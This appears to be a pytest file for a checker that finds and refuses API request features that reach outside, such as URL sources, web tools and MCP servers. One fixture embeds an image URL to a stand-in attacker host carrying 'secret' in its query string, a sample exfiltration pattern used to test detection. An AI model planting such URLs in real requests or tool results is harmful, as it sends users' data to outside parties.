"""What in a Messages request makes the API reach out (domain/api_features.py, issue 30.4)."""

from __future__ import annotations

import json

import pytest

from helix_runner.domain.api_features import FEATURES, BodyError, findings, refused, validate_names


def body(**top) -> bytes:
    return json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 5, **top}).encode()


def msg(*blocks) -> dict:
    return {"role": "user", "content": list(blocks)}


CASES = {
    "url_sources": body(messages=[msg({"type": "image", "source": {"type": "url", "url": "https://x.example/a.png"}})]),
    "file_sources": body(messages=[msg({"type": "document", "source": {"type": "file", "file_id": "file_01"}})]),
    "web_fetch": body(messages=[msg({"type": "text", "text": "x"})],
                      tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]),
    "web_search": body(messages=[], tools=[{"type": "web_search_20250305", "name": "web_search"}]),
    "code_execution": body(messages=[], tools=[{"type": "code_execution_20250825", "name": "code_execution"}]),
    "mcp_servers": body(messages=[], mcp_servers=[{"type": "url", "url": "https://mcp.example", "name": "m"}]),
    "container": body(messages=[msg({"type": "container_upload", "file_id": "file_02"})]),
}


@pytest.mark.parametrize("feature", sorted(FEATURES))
def test_each_feature_is_found_and_refused_unless_allowed(feature):
    found = findings(CASES[feature])
    assert [f.feature for f in found] == [feature]
    assert refused(CASES[feature], frozenset()) == found
    assert refused(CASES[feature], frozenset({feature})) == []


def test_a_url_inside_a_tool_result_and_a_container_id_are_found_with_where():
    nested = body(container="container_01", messages=[
        {"role": "assistant", "content": [{"type": "tool_use", "id": "t", "name": "Read", "input": {}}]},
        msg({"type": "tool_result", "tool_use_id": "t",
             "content": [{"type": "image", "source": {"type": "url", "url": "https://evil.example/?d=secret"}}]})])
    assert [(f.feature, f.where) for f in findings(nested)] == [
        ("container", "container"), ("url_sources", "messages[1].content[0].content[0] (image from a URL)")]


def test_what_the_cli_sends_is_clean():
    """A request as CLI 2.1.332 sends it: system blocks, cache control, local tools with schemas,
    base64 images, tool results as text and blocks, thinking."""
    cli = body(
        system=[{"type": "text", "text": "You are Claude Code", "cache_control": {"type": "ephemeral"}}],
        tools=[{"name": "Bash", "description": "d", "input_schema": {"type": "object"}},
               {"name": "Read", "input_schema": {"type": "object", "properties": {"type": {"type": "string"}}}}],
        messages=[msg({"type": "text", "text": "look"},
                      {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "iVBOR"}}),
                  {"role": "assistant", "content": [{"type": "thinking", "thinking": "hm", "signature": "s"},
                                                    {"type": "tool_use", "id": "t", "name": "Bash", "input": {}}]},
                  msg({"type": "tool_result", "tool_use_id": "t", "content": "done"},
                      {"type": "tool_result", "tool_use_id": "u", "content": [{"type": "text", "text": "ok"}]})],
        metadata={"user_id": "u"}, stream=True, thinking={"type": "enabled", "budget_tokens": 1024})
    assert findings(cli) == []
    assert findings(body(messages=[{"role": "user", "content": "hi"}], system="plain")) == []


def test_a_body_of_another_shape_is_an_error_not_a_pass():
    for bad in (b"[]", b'{"messages": "x"}', b'{"tools": [1]}', b"{"):
        with pytest.raises(BodyError):
            findings(bad)


def test_feature_names_are_checked():
    assert validate_names(["web_search", " web_search ", ""], "f") == ("web_search",)
    with pytest.raises(ValueError, match="unknown feature 'web_serach'"):
        validate_names(["web_serach"], "options.api_features")
